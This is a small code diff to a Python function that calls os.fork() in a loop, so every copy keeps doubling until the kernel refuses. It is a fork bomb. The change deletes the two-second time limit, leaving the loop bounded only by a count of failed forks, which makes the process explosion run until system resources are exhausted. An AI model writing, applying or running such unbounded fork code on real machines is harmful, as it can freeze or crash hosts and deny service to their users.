@@ -11,8 +11,7 @@ def fork(*_rest: str) -> None:
     """Double until the kernel refuses, and do not wait for anybody."""
     first = os.getpid()
     refused = 0
-    end = time.monotonic() + 2
-    while time.monotonic() < end and refused < 50:
+    while refused < 50:  # a copy goes on with its parent's number
         try:
             os.fork()
         except OSError:
